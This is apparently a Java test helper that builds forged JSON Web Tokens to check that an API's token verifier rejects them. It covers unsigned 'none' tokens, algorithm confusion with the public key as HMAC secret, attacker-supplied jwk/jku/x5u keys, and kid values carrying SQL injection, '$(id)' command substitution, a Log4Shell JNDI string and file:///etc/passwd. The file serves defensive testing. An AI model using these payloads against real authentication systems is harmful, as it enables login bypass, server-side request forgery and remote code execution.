package io.feedbackplatform.api.security;

import com.nimbusds.jose.EncryptionMethod;
import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JWEAlgorithm;
import com.nimbusds.jose.JWEHeader;
import com.nimbusds.jose.JWEObject;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.JWSObject;
import com.nimbusds.jose.Payload;
import com.nimbusds.jose.crypto.ECDSASigner;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.crypto.RSAEncrypter;
import com.nimbusds.jose.crypto.RSASSASigner;
import com.nimbusds.jose.jwk.Curve;
import com.nimbusds.jose.jwk.gen.ECKeyGenerator;
import com.nimbusds.jose.util.Base64URL;
import io.feedbackplatform.api.testing.TestIssuer;
import io.feedbackplatform.core.member.UserId;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;

/** Tokens with the claims of a member that the issuer never signed, or not in this way. */
final class HostileSignatures {

  private static final String URL = "https://issuer.example/pool";

  private final TestIssuer issuer;
  private final TestIssuer stranger = new TestIssuer(URL, TestIssuer.newKey("key-1"));
  private final String payload;
  private final List<HostileToken> tokens = new ArrayList<>();

  private HostileSignatures(TestIssuer issuer, UserId user) {
    this.issuer = issuer;
    this.payload = HostileClaims.payload(user);
  }

  static List<HostileToken> of(TestIssuer issuer, UserId user) throws JOSEException {
    var signatures = new HostileSignatures(issuer, user);
    signatures.algorithms();
    signatures.keys();
    signatures.kids();
    signatures.headers();
    signatures.wrapped();
    return signatures.tokens;
  }

  private void algorithms() throws JOSEException {
    for (var alg : List.of("none", "None", "nOnE", "NONE", "", "rs256", "RS256 ", "RSA")) {
      by(issuer, "alg '" + alg + "'", "{\"alg\":\"" + alg + "\",\"kid\":\"key-1\"}");
      unsigned(alg);
    }
    by(issuer, "no alg", "{\"kid\":\"key-1\"}");
    by(issuer, "alg as list", "{\"alg\":[\"RS256\"],\"kid\":\"key-1\"}");
    by(issuer, "alg null", "{\"alg\":null,\"kid\":\"key-1\"}");
    by(issuer, "alg twice", "{\"alg\":\"none\",\"alg\":\"RS256\",\"kid\":\"key-1\"}");
    for (var alg :
        List.of(
            JWSAlgorithm.RS384,
            JWSAlgorithm.RS512,
            JWSAlgorithm.PS256,
            JWSAlgorithm.PS384,
            JWSAlgorithm.PS512)) {
      var token = new JWSObject(named(alg), new Payload(payload));
      token.sign(new RSASSASigner(issuer.key()));
      add("the issuer's key with " + alg, token.serialize());
    }
    var key = issuer.key().toRSAPublicKey().getEncoded();
    var pem =
        "-----BEGIN PUBLIC KEY-----\n"
            + Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(key)
            + "\n-----END PUBLIC KEY-----\n";
    for (var alg : List.of(JWSAlgorithm.HS256, JWSAlgorithm.HS384, JWSAlgorithm.HS512)) {
      mac(alg, "the public key in DER", key);
      mac(alg, "the public key in PEM", pem.getBytes(StandardCharsets.US_ASCII));
      mac(alg, "the modulus", issuer.key().getModulus().decode());
      mac(alg, "zeros", new byte[64]);
    }
    mac(
        JWSAlgorithm.HS256,
        "the public key in JSON",
        issuer.key().toPublicJWK().toJSONString().getBytes(StandardCharsets.UTF_8));
    var curve = new JWSObject(named(JWSAlgorithm.ES256), new Payload(payload));
    curve.sign(new ECDSASigner(new ECKeyGenerator(Curve.P_256).generate()));
    add("another kind of key", curve.serialize());
  }

  private void keys() {
    var own = stranger.key().toPublicJWK().toJSONString();
    by(stranger, "a stranger's key under our kid", issuer.header().toString());
    by(stranger, "jwk", header("\"jwk\":" + own));
    by(stranger, "jwk with its private part", header("\"jwk\":" + stranger.key().toJSONString()));
    for (var name : List.of("jku", "x5u")) {
      for (var url :
          List.of(
              "https://evil.example/jwks.json",
              "http://127.0.0.1:1/",
              "file:///etc/passwd",
              URL + "/../evil/jwks.json",
              "data:application/json,{}")) {
        by(stranger, name + " " + url, header("\"" + name + "\":\"" + url + "\""));
      }
    }
    by(stranger, "x5c", header("\"x5c\":[\"MIIBszCCAVmgAwIBAgIUe\"]"));
    by(stranger, "x5t", header("\"x5t\":\"AAAAAAAAAAAAAAAAAAAAAAAAAAA\""));
    by(stranger, "keys", header("\"keys\":[" + own + "]"));
  }

  private void kids() {
    for (var kid :
        List.of(
            "../../key-1",
            "/dev/null",
            "key-1' OR '1'='1",
            "key-1; DROP TABLE keys",
            "$(id)",
            "${jndi:ldap://evil.example/a}",
            "",
            " ",
            "KEY-1",
            "key-1 ",
            "key-1\\u0000",
            "*",
            "https://evil.example/jwks.json",
            "unknown",
            "k".repeat(1_000),
            "k".repeat(4_000))) {
      var shown = kid.length() > 60 ? kid.length() + " letters" : kid;
      by(stranger, "stranger with kid '" + shown + "'", kid(kid));
      by(issuer, "issuer with kid '" + shown + "'", kid(kid));
    }
    for (var kid : List.of("null", "1", "true", "[\"key-1\"]", "{\"a\":\"key-1\"}")) {
      by(issuer, "kid " + kid, "{\"alg\":\"RS256\",\"kid\":" + kid + "}");
    }
    by(issuer, "no kid", "{\"alg\":\"RS256\"}");
    by(issuer, "kid twice", "{\"alg\":\"RS256\",\"kid\":\"key-1\",\"kid\":\"key-1\"}");
  }

  private void headers() {
    by(issuer, "crit", header("\"crit\":[\"x\"],\"x\":1"));
    by(issuer, "crit of what is not there", header("\"crit\":[\"exp\"]"));
    by(issuer, "crit as text", header("\"crit\":\"x\""));
    by(issuer, "unencoded payload", header("\"b64\":false,\"crit\":[\"b64\"]"));
    by(issuer, "typ of a logout", header("\"typ\":\"logout+jwt\""));
    by(issuer, "typ of a proof", header("\"typ\":\"dpop+jwt\""));
    by(issuer, "header as list", "[{\"alg\":\"RS256\",\"kid\":\"key-1\"}]");
    by(issuer, "header as text", "\"RS256\"");
    by(issuer, "header of nothing", "");
    by(issuer, "header too deep", header("\"x\":" + "[".repeat(500) + "]".repeat(500)));
  }

  private void wrapped() throws JOSEException {
    var inner = HostileClaims.sign(issuer, issuer.header().toString(), payload);
    add(
        "a good token inside a token",
        HostileClaims.sign(stranger, header("\"cty\":\"JWT\""), inner));
    add(
        "a good token inside the issuer's token",
        HostileClaims.sign(issuer, header("\"cty\":\"JWT\""), inner));
    for (var content : List.of(inner, payload)) {
      var sealed =
          new JWEObject(
              new JWEHeader.Builder(JWEAlgorithm.RSA_OAEP_256, EncryptionMethod.A256GCM)
                  .keyID("key-1")
                  .build(),
              new Payload(content));
      sealed.encrypt(new RSAEncrypter(issuer.key().toPublicJWK()));
      add("encrypted " + (content.equals(inner) ? "token" : "claims"), sealed.serialize());
    }
  }

  private void mac(JWSAlgorithm algorithm, String secret, byte[] bytes) throws JOSEException {
    var token = new JWSObject(named(algorithm), new Payload(payload));
    token.sign(new MACSigner(bytes));
    add(algorithm + " with " + secret, token.serialize());
  }

  private void unsigned(String alg) {
    var header = Base64URL.encode("{\"alg\":\"" + alg + "\",\"kid\":\"key-1\"}");
    add("alg '" + alg + "', unsigned", header + "." + Base64URL.encode(payload) + ".");
  }

  private void by(TestIssuer signer, String what, String header) {
    add(what, HostileClaims.sign(signer, header, payload));
  }

  private void add(String what, String token) {
    tokens.add(HostileToken.of(what, HostileToken.Flaw.SIGNATURE, token));
  }

  private static JWSHeader named(JWSAlgorithm algorithm) {
    return new JWSHeader.Builder(algorithm).keyID("key-1").build();
  }

  private static String kid(String kid) {
    return "{\"alg\":\"RS256\",\"kid\":\"" + kid + "\"}";
  }

  private static String header(String more) {
    return "{\"alg\":\"RS256\",\"kid\":\"key-1\"," + more + "}";
  }
}
